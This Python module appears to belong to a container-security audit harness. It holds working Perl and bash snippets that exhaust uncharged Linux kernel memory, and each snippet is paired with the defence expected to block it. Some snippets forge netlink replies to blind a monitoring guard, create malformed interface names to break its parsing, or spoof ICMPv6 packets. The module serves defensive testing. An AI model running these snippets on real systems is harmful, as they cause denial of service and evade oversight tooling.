"""Kernel memory that no memory limit counts: entries of tables, interfaces and what hangs on them."""

from rigs.audit.attack import Attack
from rigs.audit.uncharged_memory import ENOUGH, NETLINK, held_in_the_kernel
from rigs.audit.walls import (
    EXTENSIONS,
    FIXED,
    GENERIC,
    KERNEL_ONLY,
    KINDS,
    LENT,
    OLD_TABLES,
    PROFILE,
    VNI_REQUESTS,
    WHOLE_LISTS,
    without,
)

NEIGHBOURS = f"""
open(my $batch, "|-", "ip -6 -force -batch -");
for my $number (1 .. {ENOUGH} << 11) {{
    printf $batch "neigh add fe80::%x:%x lladdr 02:00:00:00:00:01 dev eth0 nud permanent\n", $number >> 16, $number & 65535;
}}
close $batch;
$held = {ENOUGH} << 20;
"""


ATTACKS = (
    held_in_the_kernel(
        "M22",
        "permanent neighbours, which the machine's limit of neighbours does not count (gc_thresh3)",
        NEIGHBOURS,
    ),
    held_in_the_kernel(
        "M23",
        "answer the guard in the kernel's place (netlink) while next hops are added, which only an answer counts",
        f"""
my $ip = open(my $batch, "|-", "ip -6 -force -batch -");
for my $forger (1 .. 2) {{
    next if fork;
    close $batch;
    socket(my $netlink, 16, 3, 0) && open(my $list, "<", "/proc/net/netlink") or exit;
    my ($done, $end) = (pack("LSSLLL", 20, 3, 2, 0, 0, 0), time + 30);
    while (time < $end) {{  # this file lists the guard's socket with its port, as it is a socket of this network
        sysseek($list, 0, 0);
        sysread($list, my $sockets, 65536);
        for my $port (grep {{ $_ != $ip }} $sockets =~ /^\\S+ 0 +([1-9]\\d*) /mg) {{
            for (1 .. 20) {{ send($netlink, $done, 0x40, pack("SSLL", 16, 0, $port, 0)) or last }}
        }}
        select(undef, undef, undef, 0.0001);
    }}
    exit;
}}
print $batch "nexthop add id $_ dev eth0\n" for 1 .. {ENOUGH} << 11;
close $batch;
$held = ({ENOUGH} << 11) * 448;
""",
        wall="the kernel refuses what others send to a netlink socket that is connected to it",
        control=KERNEL_ONLY,
    ),
    held_in_the_kernel(
        "M24",
        "connections that conntrack tracks",
        f"""
use Socket;
system("ip link set lo up; nft add table ip t; nft add chain ip t c '{{ type filter hook output priority 0; }}';"
    . "nft add rule ip t c ct state new counter");
socket(my $out, AF_INET, SOCK_DGRAM, 0);
FLOOD: for my $host (1 .. 8) {{
    for my $port (1 .. 60000) {{
        send($out, "x", 0, sockaddr_in($port, pack("C4", 127, 0, 1, $host)));
        last FLOOD if ($held += 512) > {ENOUGH} << 20;
    }}
}}
""",
    ),
    held_in_the_kernel(
        "M25",
        "elements that packets add to a set of nftables",
        f"""
use Socket;
open(my $rules, "|-", "ip link set lo up; nft -f -");
print $rules "table ip t {{ set s {{ type ipv4_addr . inet_service; flags dynamic; size 9000000; }}\n";
print $rules "chain c {{ type filter hook output priority 0; add \\@s {{ ip daddr . udp dport }}; }}\n}}\n";
close $rules;
socket(my $out, AF_INET, SOCK_DGRAM, 0);
FLOOD: for my $host (1 .. 40) {{
    for my $port (1 .. 60000) {{
        send($out, "x", 0, sockaddr_in($port, pack("C4", 127, 0, 1, $host)));
        last FLOOD if ($held += 100) > {ENOUGH} << 20;
    }}
}}
""",
    ),
    held_in_the_kernel(
        "M28",
        "queues of an interface that it does not use, and that no list has (mq)",
        f"""
system("ip link add v0 numtxqueues 1200 numrxqueues 2 type veth peer name v1 numtxqueues 2 numrxqueues 1200");
socket(my $socket, 2, 2, 0);
for my $name ("v0", "v1") {{
    my $channels = pack("L9", 0x3d, 0, 0, 0, 0, 1, 1, 0, 0);
    ioctl($socket, 0x8946, pack("a16P", $name, $channels)) or print "channels: $!\n";
}}
# 72 KB for each queue: three rings as long as txqueuelen says. Newer kernels refuse a longer one
system("ip link set v0 up; ip link set v0 txqueuelen 3000 && tc qdisc add dev v0 root mq") or $held = {ENOUGH} << 20;
my $end = time + 3;
while (time < $end) {{ }}  # a reading is due once the lab has used CPU
""",
    ),
    Attack(
        id="M29",
        title="thousands of sources of a multicast group, which the kernel compares with one another under a lock",
        wall="the node's /proc has these two settings read-only",
        perl="""
my @set;
for my $name ("core/optmem_max", "ipv4/igmp_max_msf") {
    open(my $file, ">", "/proc/sys/net/$name") or next;
    syswrite($file, "200000") and push @set, $name;
}
@set ? through("set: @set") : refused("$!");
""",
        control=FIXED,
    ),
    held_in_the_kernel(
        "M31",
        "addresses of an interface for multicast groups (SIOCADDMULTI)",
        f"""
socket(my $socket, 2, 2, 0);
for my $number (1 .. {ENOUGH} << 12) {{
    ioctl($socket, 0x8931, pack("a16Sa14", "eth0", 0, pack("CCN", 1, 0, $number))) == -1 and last;
    $held += 256;
}}
""",
    ),
    held_in_the_kernel(
        "M32",
        "hash tables of tc filters (u32), full on each of many interfaces",
        """
open(my $batch, "|-", "ip -batch -");
print $batch "link add x$_ type veth peer name y$_\n" for 1 .. 12;
close $batch;
for my $name (map { ("x$_", "y$_") } 1 .. 12) {
    open(my $filters, "|-", "tc -force -batch - 2>/dev/null");
    print $filters "qdisc add dev $name ingress\n";
    printf $filters "filter add dev $name ingress prio 1 handle %x: protocol ip u32 divisor 256\n", $_ for 1 .. 2040;
    close $filters;
    $held += 2040 * 3500;
}
""",
    ),
    held_in_the_kernel(
        "M33",
        "interfaces with thousands of queues",
        """
for my $number (1 .. 40) {
    system("ip link add x$number numtxqueues 1024 numrxqueues 1024 type veth peer name y$number numtxqueues 1024 numrxqueues 1024")
        and last;
    $held += 4096 * 700;
}
""",
    ),
    held_in_the_kernel(
        "M40",
        "buckets of resilient groups of next hops, 65,535 each",
        """
system("ip nexthop add id 2 via 2001:db8:1::2 dev eth0");
for my $group (100 .. 140) {
    system("ip nexthop add id $group group 2 type resilient buckets 65535") and last;
    $held += 65535 * 32;
}
""",
    ),
    held_in_the_kernel(
        "M41",
        "VNIs of a VXLAN interface that filters them, all added in one netlink request",
        """
system("ip link add vx0 type vxlan dstport 4789 external vnifilter && bridge vni add dev vx0 vni 1-220000")
    or $held = 220_000 * 384;
""",
        wall="the kernel refuses the request (docker/vni_requests.py); where it cannot, the guard ends the node",
        behind=(VNI_REQUESTS,),
    ),
    held_in_the_kernel(
        "M45",
        "names of an interface and of a socket that break the lists which the guard reads, and then neighbours",
        r"""
use Socket qw(:all);
system("ip", "link", "add", "a\x1cb\xc2\x85", "type", "veth", "peer", "name", "p0");
socket(my $named, AF_UNIX, SOCK_STREAM, 0);
bind($named, pack_sockaddr_un("\0" . "\n" x 100 . "\xff"));
"""
        + NEIGHBOURS,
    ),
    held_in_the_kernel(
        "M46",
        "sets of nftables without an element, with room for 65,535 each",
        r"""
open(my $rules, "|-", "nft -f -");
print $rules "add table ip t\n";
print $rules "add set ip t s$_ { type ipv4_addr; flags dynamic; size 65535; }\n" for 1 .. 60;
close $rules or exit;
$held = 120 << 20;
""",
    ),
    held_in_the_kernel(
        "M49",
        "IPv4 routes with 2,000 next hops each, of which netlink tells in 8 bytes",
        NETLINK
        + r"""
system("ip link set lo up");
my ($socket, $hops) = (netlink(0), pack("SCCl", 8, 0, 0, 1) x 2000);
$held = 2000 * 150 * many($socket, 400, 2, sub {
    message(24, 0x401, pack("CCCCCCCCL", 2, 32, 0, 0, 254, 3, 253, 1, 0)
        . attribute(1, pack("CCn", 10, 78, $_[0])) . attribute(6, pack("L", 10 + $_[0])) . attribute(9, $hops));
});
""",
    ),
    held_in_the_kernel(
        "M50",
        "next hops with a list of 127 segments each",
        NETLINK
        + r"""
my ($index) = `ip -o link show eth0` =~ /^(\d+)/;
my $segments = pack("lCCCCCCn", 1, 0, 254, 4, 126, 126, 0, 0) . pack("n8", 0x2001, 0xdb8, 0, 0, 0, 0, 0, 9) x 127;
$held = 4200 * many(netlink(0), 30_000, 50, sub {
    message(104, 0x401, pack("CCCCL", 10, 0, 3, 0, 0) . attribute(1, pack("L", 10 + $_[0])) . attribute(5, pack("L", $index))
        . attribute(7, pack("S", 5)) . attribute(8 | 0x8000, attribute(1, $segments)));
});
""",
    ),
    held_in_the_kernel(
        "M51",
        "hash tables of tc filters behind a filter that fits into no message, where the kernel ends its list",
        NETLINK
        + r"""
my $code = pack("SCCL", 6, 0, 0, 0) x 4090;
open(my $batch, "|-", "ip -batch -");
print $batch "link add x$_ type veth peer name y$_\n" for 1 .. 12;
close $batch;
for my $name (map { ("x$_", "y$_") } 1 .. 12) {
    system("tc qdisc add dev $name ingress");
    my ($index) = `ip -o link show $name` =~ /^(\d+)/;
    answered(netlink(0), message(44, 0x605, pack("CCSlLLL", 0, 0, 0, $index, 0, 0xffff0000, (1 << 16) | 8)
        . attribute(1, "bpf\0") . attribute(2, attribute(4, pack("S", 4090)) . attribute(5, $code) . attribute(3, pack("L", 1)))))
        or exit;
    open(my $filters, "|-", "tc -force -batch - 2>/dev/null");
    printf $filters "filter add dev $name ingress prio 2 handle %x: protocol ip u32 divisor 256\n", $_ for 1 .. 2040;
    close $filters;
    $held += 2040 * 3500;
}
""",
        control=WHOLE_LISTS,
    ),
    held_in_the_kernel(
        "M52",
        "interfaces behind one whose part of the kernel's list is longer than what is read at once",
        NETLINK
        + r"""
system("ip link add m0 type veth peer name m1; ip link add v0 link m0 type macvlan mode source");
my ($index) = `ip -o link show v0` =~ /^(\d+)/;
many(netlink(0), 40_000, 1000, sub {
    my $address = attribute(3, pack("L", 0)) . attribute(4, pack("nN", 0x200, $_[0]));
    message(16, 1, pack("CCSlLL", 0, 0, 0, $index, 0, 0) . attribute(18, attribute(1, "macvlan\0") . attribute(2, $address)));
});
for my $number (1 .. 35) {
    system("ip link add x$number numtxqueues 1024 numrxqueues 1024 type veth peer name y$number numtxqueues 1024 numrxqueues 1024")
        and last;
    $held += 4096 * 700;
}
""",
        control=WHOLE_LISTS,
    ),
    held_in_the_kernel(
        "M54",
        "tables of hashlimit, which needs no iptables but a message",
        NETLINK
        + r"""
system("nft add table ip t; nft 'add chain ip t c { type filter hook output priority 0; }'");
my $socket = netlink(12);
for my $number (1 .. 12) {
    my $told = pack("a255x", "h$number") . pack("QQLLLLLLCCx6", 1000, 5, 1, 1 << 20, 1e6, 1e6, 1e6, 1000, 32, 32) . pack("Q", 0);
    my $match = attribute(1, "hashlimit\0") . attribute(2, pack("N", 3)) . attribute(3, $told);
    my $rule = attribute(4 | 0x8000, attribute(1 | 0x8000, attribute(1, "match\0") . attribute(2 | 0x8000, $match)));
    send($socket, message(0x10, 1, pack("CCn", 0, 0, 10))
        . message(0xa06, 0xc05, pack("CCn", 2, 0, 0) . attribute(1, "t\0") . attribute(2, "c\0") . $rule)
        . message(0x11, 1, pack("CCn", 0, 0, 10)), 0);
    recv($socket, my $answer, 65536, 0);
    unpack("x16l", $answer) == 0 or last;
    $held += 10 << 20;
}
""",
        control=OLD_TABLES,
    ),
    held_in_the_kernel(
        "M56",
        "labels of IPv6 addresses",
        NETLINK
        + r"""
$held = 64 * many(netlink(0), 1_200_000, 500, sub {
    message(72, 0x401, pack("CCCCLL", 10, 0, 128, 0, 0, 0)
        . attribute(1, pack("n6N", 0x2001, 0xdb8, 0, 0, 0, 0, $_[0])) . attribute(2, pack("L", 9)));
});
""",
    ),
    Attack(
        id="M57",
        title="protocols of netlink by which the kernel keeps states of IPsec and more",
        wall="the container's seccomp profile allows five protocols",
        perl="""
my @made = grep { socket(my $netlink, 16, 3, $_) } (6, 10, 11, 21, 22);  # IPsec is the first
@made ? through("protocols @made") : refused("$!");
""",
        control=PROFILE,
    ),
    held_in_the_kernel(
        "M58",
        "VLANs of a bridge's ports",
        """
system("ip link add b0 type bridge vlan_filtering 1; ip link set b0 up");
for my $number (1 .. 90) {
    system("ip link add x$number type veth peer name y$number && ip link set x$number master b0"
        . " && bridge vlan add dev x$number vid 2-4094") and last;
    $held += 4093 * 384;
}
""",
        behind=(without("BRIDGE_VLAN_FILTERING", "VLANs of bridges"),),
    ),
    held_in_the_kernel(
        "M59",
        "routes of MPLS labels, and a table with room for all of them",
        """
if (system("sysctl -qw net.mpls.platform_labels=1048575 2>/dev/null") == 0) {
    open(my $batch, "|-", "ip -f mpls -force -batch - 2>/dev/null");
    for my $label (16 .. 600_000) {
        print $batch "route add $label via inet6 2001:db8:1::2 dev eth0\n" or last;
    }
    close $batch;
    $held = 90 << 20;
}
""",
        behind=(without("MPLS_ROUTING", "MPLS"),),
    ),
    held_in_the_kernel(
        "M60",
        "interfaces of a kind that no lab needs, with hash tables of 8 MB (gtp)",
        NETLINK
        + r"""
my ($socket, @own) = (netlink(0));
for my $number (1 .. 12) {
    socket($own[$number], 2, 2, 0);
    my $told = attribute(2, pack("L", fileno($own[$number]))) . attribute(3, pack("L", 1 << 19));  # the size of its two tables
    answered($socket, message(16, 0x605, pack("CCSlLL", 0, 0, 0, 0, 0, 0)
        . attribute(3, "g$number\0") . attribute(18, attribute(1, "gtp\0") . attribute(2 | 0x8000, $told)))) or last;
    $held += 8 << 20;
}
""",
        wall="the guard takes a node with an interface of another kind for a full one",
        control=KINDS,
        behind=(without("GTP", "GTP"),),
    ),
    held_in_the_kernel(
        "M61",
        "priorities that VLAN interfaces map to 0, of which no dump tells",
        NETLINK
        + r"""
system("ip link add x0 type veth peer name y0; ip link set x0 up");
my $socket = netlink(0);
for my $vlan (2 .. 60) {
    system("ip link add v$vlan link x0 type vlan id $vlan") and last;
    my ($index) = `ip -o link show v$vlan` =~ /^(\d+)/;
    $held += 32 * many($socket, 50_000, 1000, sub {
        my $map = attribute(1, pack("LL", $_[0], 0));
        message(16, 1, pack("CCSlLL", 0, 0, 0, $index, 0, 0)
            . attribute(18 | 0x8000, attribute(1, "vlan\0") . attribute(2 | 0x8000, attribute(3 | 0x8000, $map))));
    });
}
""",
        behind=(without("VLAN_8021Q", "VLAN"),),
    ),
    Attack(
        id="M62",
        title="generic netlink, by which the kernel keeps addresses, peers, flows and sessions of many modules",
        wall="a node gets a socket of a network in which it has no rights",
        bash="""
said=$(ip mptcp endpoint add 2001:db8::7 2>&1) && echo THROUGH "$(ip mptcp endpoint show)" || echo "REFUSED $said"
""",
        control=GENERIC,
    ),
    Attack(
        id="M63",
        title="sockets of generic netlink, which are in no list of the node's network, with answers that wait",
        wall="a node has four at once, and little waits in one",
        perl=NETLINK
        + r"""
my (@made, $waits);
my $ask = message(16, 1, pack("CCS", 3, 1, 0) . attribute(2, "nlctrl\0"));  # CTRL_CMD_GETFAMILY: 1.4 KB each
for my $socket (1 .. 40) {
    socket($made[$socket], 16, 3, 16) or last;
    for (1 .. 200) { send($made[$socket], $ask, 0x40) }
}
my $got = grep { defined && fileno $_ } @made;
$got > 8 ? through("$got sockets") : refused("$got sockets, $!");
""",
        control=LENT,
    ),
    held_in_the_kernel(
        "M64",
        "extensions of x_tables in rules of nftables (match string)",
        NETLINK
        + r"""
my ($socket, $refused) = (netlink(12));
sub rules { pack("CCn", $_[0], 0, $_[1]) . $_[2] }
sub batch { send($socket, join("", message(16, 1, rules(0, 10, "")), @_, message(17, 1, rules(0, 10, ""))), 0) }
my $table = attribute(1, "t\0");
batch(message(0x0a00, 0x401, rules(2, 0, $table)), message(0x0a03, 0x401, rules(2, 0, $table . attribute(3, "c\0"))));
my $info = pack("SSa16a128CC", 0, 65535, "bm", "A" x 128, 128, 0) . "\0" x 10;
my $string = attribute(1, "string\0") . attribute(2, pack("N", 1)) . attribute(3, $info);
my $match = attribute(0x8001, attribute(1, "match\0") . attribute(0x8002, $string));
my $rule = $table . attribute(2, "c\0") . attribute(0x8004, $match x 10);
for (1 .. 400) {
    batch(map { message(0x0a06, 0xc01, rules(2, 0, $rule)) } 1 .. 40) or last;
    while (defined recv($socket, my $answer, 65536, 0x40)) {
        $refused++ if unpack("x4S", $answer) == 2 && unpack("x16l", $answer);
    }
    last if $refused or ($held += 400 * 2048) > 80 << 20;
}
""",
        wall="the guard takes a node with such an extension for a full one",
        control=EXTENSIONS,
        behind=(without("NFT_COMPAT", "extensions of x_tables in nftables"),),
    ),
    held_in_the_kernel(
        "M65",
        "exceptions of IPv6 routes, which messages about a path MTU add (ICMPv6 from the node to itself)",
        r"""
use Socket qw(inet_pton pack_sockaddr_in6);
my ($own) = `ip -6 -o addr show dev eth0 scope global` =~ /inet6 ([0-9a-f:]+)/;
open(my $batch, "|-", "ip -6 -force -batch - 2>/dev/null");
print $batch "route add 3fff:900:$_\::/64 dev eth0\n" for 0 .. 59;
close $batch;
socket(my $raw, 10, 3, 58) or refused("$!");
my ($me, $to) = (inet_pton(10, $own), pack_sockaddr_in6(0, inet_pton(10, $own)));
for my $round (1 .. 6_000) {
    for my $route (0 .. 59) {
        # Packet Too Big about an echo request of the node's own, which it never sent
        my $far = pack("n4", 0x3fff, 0x900, hex $route, 0) . pack("NN", $round * 2654435761 & 0xffffffff, $round);
        my $sent = pack("NnCC", 0x60000000, 8, 58, 64) . $me . $far . pack("CCnnn", 128, 0, 0, 1, 1);
        send($raw, pack("CCnN", 2, 0, 0, 1280) . $sent, 0, $to) and $held += 436;
    }
}
""",
    ),
)
